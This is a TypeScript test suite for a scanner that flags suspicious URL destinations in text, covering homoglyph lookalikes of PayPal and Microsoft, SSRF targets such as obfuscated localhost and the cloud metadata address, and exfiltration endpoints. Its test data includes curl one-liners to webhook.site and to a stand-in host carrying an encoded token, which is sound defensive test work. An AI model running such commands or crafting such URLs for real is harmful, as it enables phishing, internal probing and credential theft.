import fc from "fast-check";
import { describe, expect, it, vi } from "vitest";
import {
  assessAtGlance,
  assessDestination,
  NO_LISTS,
} from "../../../src/core/destination/assess-destination.ts";
import { domainList } from "../../../src/core/destination/domain-list.ts";
import type { Finding } from "../../../src/core/inspect/finding.ts";
import { createPartScanner } from "../../../src/core/inspect/part-scanner.ts";
import { scanJson } from "../../../src/core/inspect/scan-json.ts";
import { looking } from "./inspections.ts";

const MEDIUM = 60;
const LOOK = looking(["destination"], "report", MEDIUM);
const DECOYS = Array.from({ length: 40 }, (_, i) => `https://忘れ${i}.example/ `).join("");

function found(text: string, look = LOOK): readonly Finding[] {
  return scanJson(look, { text }, []).findings;
}

describe("hosts that take long to read", () => {
  it("are asked about of the standard only so often in one text", () => {
    const parse = vi.spyOn(URL, "parse");
    found(Array.from({ length: 150 }, (_, i) => `https://a${i}.忘れ${i}.example/ `).join(""));
    const times = parse.mock.calls.length;
    parse.mockRestore();
    expect(times).toBeGreaterThan(3);
    expect(times).toBeLessThan(16);
  });

  it.each([
    ["https://p\u0430yp\u0430l.com/", "lookalike"],
    ["https://\u0430ccount-micros\u043eft.example/", "lookalike"],
    ["https://忘れ.paypal-login.example/", "lookalike"],
    ["http://１２７.0.0.1/", "ssrf"],
    ["http://169.254.169.２５４/latest/", "ssrf"],
    ["http://２１３０７０６４３３/", "ssrf"],
    ["http://忘れ.localhost/", "ssrf"],
    ["http://ｌｏｃａｌｈｏｓｔ:9000/", "ssrf"],
    ["https://ｗebhook.site/", "exfiltration"],
    ["https://忘れ.webhook.site/", "exfiltration"],
    ["gopher://忘れ.example/", "ssrf"],
    ["https://docs.python.org@忘れ.example/", "ssrf"],
    ["https://忘れ.example/c?d=dXNlcj1hbGljZSZ0b2tlbj14OQ==", "exfiltration"],
  ])("are judged also behind many of their kind: %s", (address, kind) => {
    const [alone] = found(`curl ${address}`);
    expect(alone?.detector).toBe(`destination.${kind}`);
    const behind = found(`${DECOYS}\ncurl ${address}`);
    expect(behind.map(({ detector }) => detector)).toEqual([`destination.${kind}`]);
  });

  it("are no brand's look-alikes where prose stands right behind an honest address", () => {
    const prose = ["https://www.microsoft.com，谢谢 ", "https://docs.github.com/zh，在这里 "];
    expect(found(prose.join("").repeat(20))).toEqual([]);
    expect(found(`${DECOYS}https://www.microsoft.com。evil.example/ `)).toHaveLength(1);
  });

  it("are read wherever an operator's list may have them", () => {
    const domains = { trusted: [], blocked: ["xn--n8j9dxd.xn--e1afmkfd"] };
    const lists = { ...NO_LISTS, blocked: domainList(domains.blocked) };
    const address = "https://a.いろは.пример/";
    const { suspicions } = assessDestination(address, lists);
    expect(suspicions).toHaveLength(1);
    const look = { ...LOOK, rules: LOOK.rules.map((rule) => ({ ...rule, domains })) };
    expect(found(`${DECOYS}${address}`, look)).toHaveLength(suspicions.length);
  });

  it("are judged the same wherever a stream is cut", () => {
    const text = `${DECOYS}https://p\u0430yp\u0430l.com/ ${DECOYS}http://１２７.0.0.1/`;
    const judged = [1, 7, 64, text.length].map((width) => {
      const scanner = createPartScanner(LOOK, "p", []);
      for (let at = 0; at < text.length; at += width) scanner.push(text.slice(at, at + width));
      scanner.end();
      return scanner.findings;
    });
    expect(judged[0]).toHaveLength(2);
    for (const findings of judged) expect(findings).toEqual(judged[0]);
  });

  it("are the only ones that are judged at a glance", () => {
    const piece = fc.constantFrom(
      "a",
      "paypal",
      ".",
      "com",
      "-",
      "1",
      "%41",
      "忘",
      "@",
      ":80",
      "/",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 10 }), (pieces) => {
        const address = `https://${pieces.join("")}`;
        const read = assessDestination(address, NO_LISTS);
        const seen = assessAtGlance(address, address);
        expect(seen?.intricate ?? false).toBe(read.intricate);
      }),
      { numRuns: 2000 },
    );
  });
});
